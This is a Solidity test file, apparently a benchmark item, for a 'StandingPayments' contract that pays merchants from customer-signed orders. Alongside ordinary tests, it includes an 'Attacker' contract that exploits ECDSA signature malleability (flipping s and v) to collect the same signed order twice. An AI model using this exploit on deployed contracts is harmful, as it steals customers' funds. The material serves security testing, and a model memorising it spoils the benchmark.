// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;
pragma abicoder v2;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./StandingPayments.sol";

// assay-canary-5309c9f1-b03c-4ce8-bca8-ee002b823a25

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
    function addr(uint256 key) external pure returns (address);
    function sign(uint256 key, bytes32 digest) external pure returns (uint8, bytes32, bytes32);
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "The maker mints.");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant KEY = 0xC0FFEE;
    uint256 private constant OTHER_KEY = 0xBEEF;
    uint256 private constant START = 1_790_000_000;
    address private constant SHOP = address(0x5409);

    Token public token;
    StandingPayments public payments;
    Attacker private mallory;
    address private customer;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        payments = new StandingPayments(token);
        customer = vm.addr(KEY);
        token.mint(customer, 3_000);
        vm.prank(customer);
        token.approve(address(payments), 3_000);
        vm.prank(customer);
        payments.deposit(2_000);
        StandingPayments.Order memory order = orderTo(address(0), 600, 1);
        mallory = new Attacker(payments);
        order.merchant = address(mallory);
        mallory.receiveOrder(order, signatureOf(KEY, order));
    }

    function orderTo(address merchant, uint256 amount, uint256 invoice) private view returns (StandingPayments.Order memory) {
        return StandingPayments.Order(customer, merchant, amount, invoice, START, START + 30 days);
    }

    function signatureOf(uint256 key, StandingPayments.Order memory order) private view returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, payments.digestOf(order));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        StandingPayments.Order memory order = orderTo(SHOP, 250, 7);
        bytes memory signature = signatureOf(KEY, order);
        vm.prank(SHOP);
        payments.collect(order, signature);
        require(token.balanceOf(SHOP) == 250 && payments.balanceOf(customer) == 1_750, "collected");
        order.invoice = 8;
        signature = signatureOf(KEY, order);
        vm.prank(SHOP);
        payments.collect(order, signature);
        require(token.balanceOf(SHOP) == 500, "the next invoice");
        order.invoice = 9;
        signature = signatureOf(KEY, order);
        vm.prank(customer);
        payments.cancel(order, signature);
        vm.prank(customer);
        payments.deposit(1_000);
        vm.prank(customer);
        payments.withdraw(2_500);
        require(payments.balanceOf(customer) == 0 && token.balanceOf(customer) == 2_500, "withdrawn");
    }

    function test_RefusesOrders() public {
        StandingPayments.Order memory order = orderTo(SHOP, 250, 7);
        bytes memory signature = signatureOf(KEY, order);
        vm.expectRevert("The order is for another merchant.");
        payments.collect(order, signature);
        order.amount = 251;
        vm.prank(SHOP);
        vm.expectRevert("The customer has not signed.");
        payments.collect(order, signature);
        signature = signatureOf(OTHER_KEY, order);
        vm.prank(SHOP);
        vm.expectRevert("The customer has not signed.");
        payments.collect(order, signature);
        vm.prank(SHOP);
        vm.expectRevert("A signature has 65 bytes.");
        payments.collect(order, abi.encodePacked(signature, uint8(0)));
        order.customer = address(0);
        vm.prank(SHOP);
        vm.expectRevert("The signature is not valid.");
        payments.collect(order, new bytes(65));
        order = orderTo(SHOP, 2_001, 7);
        signature = signatureOf(KEY, order);
        vm.prank(SHOP);
        vm.expectRevert("The balance is too low.");
        payments.collect(order, signature);
    }

    function test_RefusesTheSpent() public {
        StandingPayments.Order memory order = orderTo(SHOP, 250, 7);
        bytes memory signature = signatureOf(KEY, order);
        vm.prank(SHOP);
        payments.collect(order, signature);
        vm.prank(SHOP);
        vm.expectRevert("The order is spent.");
        payments.collect(order, signature);
        vm.prank(customer);
        vm.expectRevert("The order is spent.");
        payments.cancel(order, signature);
        order.invoice = 8;
        signature = signatureOf(KEY, order);
        vm.prank(SHOP);
        vm.expectRevert("The order is of another customer.");
        payments.cancel(order, signature);
        vm.prank(customer);
        payments.cancel(order, signature);
        vm.prank(SHOP);
        vm.expectRevert("The order is spent.");
        payments.collect(order, signature);
    }

    function test_RefusesTimes() public {
        StandingPayments.Order memory order = orderTo(SHOP, 250, 7);
        order.notBefore = START + 2 days;
        bytes memory signature = signatureOf(KEY, order);
        vm.prank(SHOP);
        vm.expectRevert("The order is not due yet.");
        payments.collect(order, signature);
        vm.warp(START + 30 days + 1);
        vm.prank(SHOP);
        vm.expectRevert("The order is too old.");
        payments.collect(order, signature);
    }

    function test_RefusesTheRest() public {
        vm.prank(customer);
        vm.expectRevert("The balance is too low.");
        payments.withdraw(2_001);
        vm.prank(customer);
        vm.expectRevert("The amount is zero.");
        payments.deposit(0);
        vm.expectRevert("The token is missing.");
        new StandingPayments(IERC20(address(0)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_200, "paid once");
    }

    function target() public view returns (address) {
        return address(payments);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    uint256 private constant N = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141;

    StandingPayments private payments;
    StandingPayments.Order private order;
    bytes private signature;

    constructor(StandingPayments payments_) {
        payments = payments_;
    }

    function receiveOrder(StandingPayments.Order memory order_, bytes memory signature_) external {
        order = order_;
        signature = signature_;
    }

    function run() external {
        bytes memory first = signature;
        payments.collect(order, first);
        bytes32 r;
        uint256 s;
        uint8 v;
        assembly {
            r := mload(add(first, 32))
            s := mload(add(first, 64))
            v := byte(0, mload(add(first, 96)))
        }
        payments.collect(order, abi.encodePacked(r, N - s, v == 27 ? uint8(28) : uint8(27)));
    }
}
